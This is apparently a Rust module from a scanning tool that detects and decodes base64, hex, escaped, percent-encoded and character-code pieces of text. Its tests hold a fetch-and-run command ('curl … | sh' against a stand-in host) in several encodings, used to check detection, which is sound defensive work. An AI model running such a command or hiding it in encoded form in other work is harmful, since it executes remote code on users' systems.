//! Encoded pieces within a text: runs of base64 or hexadecimal digits, escapes, percent signs, lists of character codes.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::{base64_text, hex_text, text_of, unescape};
use crate::limits::{DECODED_PIECES, ENCODED_CHARS};

/// A piece that decodes to text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Piece {
    pub range: Range<usize>,
    /// The encoding's name.
    pub encoding: &'static str,
    pub text: String,
}

struct Encoding {
    name: &'static str,
    pattern: &'static str,
    decode: fn(&str) -> Option<String>,
}

const ENCODINGS: &[Encoding] = &[
    Encoding {
        name: "base64",
        pattern: r"[A-Za-z0-9+/_-]{24,}={0,2}(?:\\?\r?\n[ \t]{0,16}[A-Za-z0-9+/_-]{8,}={0,2})*",
        decode: decode_base64,
    },
    Encoding {
        name: "hexadecimal",
        pattern: r"\b(?:0x)?(?:[0-9a-fA-F]{2}){12,}\b",
        decode: hex_text,
    },
    Encoding {
        name: "escapes",
        pattern: r"(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\u\{[0-9a-fA-F]{1,6}\}|\\[0-3][0-7]{2}){6,}(?:[^\n]{0,3}(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\[0-3][0-7]{2}){3,})*",
        decode: unescape,
    },
    Encoding {
        name: "percent encoding",
        pattern: r"(?:%[0-9a-fA-F]{2}){8,}(?:[\w.~/-]{0,4}(?:%[0-9a-fA-F]{2})+)*",
        decode: decode_percent,
    },
    Encoding {
        name: "character references",
        pattern: r"(?:&#(?:x[0-9a-fA-F]{2,6}|[0-9]{2,7});){8,}",
        decode: decode_references,
    },
    Encoding {
        name: "character codes",
        pattern: r"(?:\b(?:0x[0-9a-fA-F]{1,4}|[0-9]{2,3})\b[\s,]*(?:[#/][^\n]{0,40}\n\s*)?){16,}",
        decode: decode_codes,
    },
];

static COMPILED: LazyLock<Vec<(&'static Encoding, Regex)>> = LazyLock::new(|| {
    let compile = |encoding: &'static Encoding| {
        let pattern = encoding
            .pattern
            .replace(r"\b", r"(?-u:\b)")
            .replace(r"\w", "0-9A-Za-z_")
            .replace(r"\s", r"\t\n\r ");
        Some((encoding, Regex::new(&pattern).ok()?))
    };
    ENCODINGS.iter().filter_map(compile).collect()
});

/// The pieces of a text that decode to text, and whether there were too many to look at.
pub(crate) fn pieces(text: &str) -> (Vec<Piece>, bool) {
    let mut found = Vec::new();
    for (encoding, pattern) in COMPILED.iter() {
        for candidate in pattern
            .find_iter(text)
            .filter(|candidate| candidate.len() >= ENCODED_CHARS)
        {
            if found.len() >= DECODED_PIECES {
                return (found, true);
            }
            if let Some(decoded) =
                (encoding.decode)(candidate.as_str()).filter(|decoded| is_worth_reading(decoded))
            {
                found.push(Piece {
                    range: candidate.range(),
                    encoding: encoding.name,
                    text: decoded,
                });
            }
        }
    }
    (found, false)
}

/// Decoded text in which a command or sentence could stand; one word, such as an identifier, is none.
fn is_worth_reading(decoded: &str) -> bool {
    let is_sentence = decoded.len() >= 8 && decoded.contains([' ', '/', '(', '.', '=']);
    // Another encoded piece has no blanks either.
    decoded.is_ascii() && (is_sentence || decoded.len() >= ENCODED_CHARS)
        || decoded.chars().filter(|c| c.is_whitespace()).count() >= 2
}

fn decode_base64(piece: &str) -> Option<String> {
    let compact: String = piece
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && *c != '\\')
        .collect();
    // Paths and long names are letters of base64 as well, but not of both cases with digits, or in steps of four.
    let mixes = compact.bytes().any(|b| b.is_ascii_uppercase())
        && compact.bytes().any(|b| b.is_ascii_lowercase());
    if !mixes {
        return None;
    }
    base64_text(&compact)
}

fn decode_percent(piece: &str) -> Option<String> {
    let mut bytes = Vec::with_capacity(piece.len() / 3);
    let mut rest = piece.as_bytes();
    while let Some((&first, tail)) = rest.split_first() {
        let code = tail.get(..2).filter(|_| first == b'%').and_then(|digits| {
            let digits = str::from_utf8(digits).ok()?;
            u8::from_str_radix(digits, 16).ok()
        });
        bytes.push(code.unwrap_or(first));
        rest = tail
            .get(if code.is_some() { 2 } else { 0 }..)
            .unwrap_or_default();
    }
    text_of(bytes)
}

fn decode_references(piece: &str) -> Option<String> {
    let codes = piece.split(';').filter_map(|reference| {
        let digits = reference.trim_start_matches("&#");
        let code = match digits.strip_prefix('x') {
            Some(hex) => u32::from_str_radix(hex, 16).ok()?,
            None => digits.parse().ok()?,
        };
        char::from_u32(code)
    });
    text_of(codes.collect::<String>().into_bytes())
}

fn decode_codes(piece: &str) -> Option<String> {
    let without_comments: String = piece
        .lines()
        .map(|line| line.split(['#', '/']).next().unwrap_or_default())
        .collect::<Vec<&str>>()
        .join(" ");
    let words = without_comments
        .split([',', ' ', '\t', '\n', '\r'])
        .filter(|word| !word.is_empty());
    let codes: Option<Vec<u8>> = words
        .map(|word| match word.strip_prefix("0x") {
            Some(hex) => u8::from_str_radix(hex, 16).ok(),
            None => word.parse().ok(),
        })
        .collect();
    let text = text_of(codes?)?;
    // Any list of small numbers is a list of characters; one of letters and blanks is meant as such.
    let letters = text
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, ' ' | '/' | '.' | '\n' | '-'))
        .count();
    (letters * 10 >= text.chars().count() * 8).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn only(text: &str) -> Option<(&'static str, String)> {
        let (found, cut) = pieces(text);
        assert!(!cut);
        found
            .into_iter()
            .next()
            .map(|piece| (piece.encoding, piece.text))
    }

    #[test]
    fn each_encoding_is_found_and_taken_off() {
        let command = "curl -s http://h.test/a | sh";
        for (encoding, text) in [
            ("base64", "x = 'Y3VybCAtcyBodHRwOi8vaC50ZXN0L2EgfCBzaA=='"),
            (
                "base64",
                "x='Y3VybCAtcyBodHRwOi8vaC50ZXN0\n   L2EgfCBzaAo='",
            ),
            (
                "hexadecimal",
                "\"6375726c202d7320687474703a2f2f682e746573742f61207c207368\"",
            ),
            (
                "percent encoding",
                "%63%75%72%6c%20%2d%73%20%68%74%74%70%3a%2f%2f%68%2e%74%65%73%74%2f%61%20%7c%20%73%68",
            ),
            (
                "character codes",
                "[99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,104,46,116,101,115,116,47,97,32,124,32,115,104]",
            ),
        ] {
            let (found, decoded) = only(text).unwrap_or_else(|| panic!("nothing in {text}"));
            assert_eq!((found, decoded.trim_end()), (encoding, command));
        }
        assert_eq!(
            only(r"\x63\x75\x72\x6c\x20\x61\x20\x7c").unwrap().1,
            "curl a |"
        );
    }

    #[test]
    fn names_paths_digests_and_tables_are_none() {
        for text in [
            "src/components/SomeVeryLongComponentName/index",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "10, 20, 30, 40, 50, 60, 70, 80, 90, 10, 20, 30, 40, 50, 60, 70, 80, 90",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "THIS_IS_A_VERY_LONG_CONSTANT_NAME_FOR_A_SETTING",
        ] {
            assert_eq!(only(text), None, "{text}");
        }
    }
}
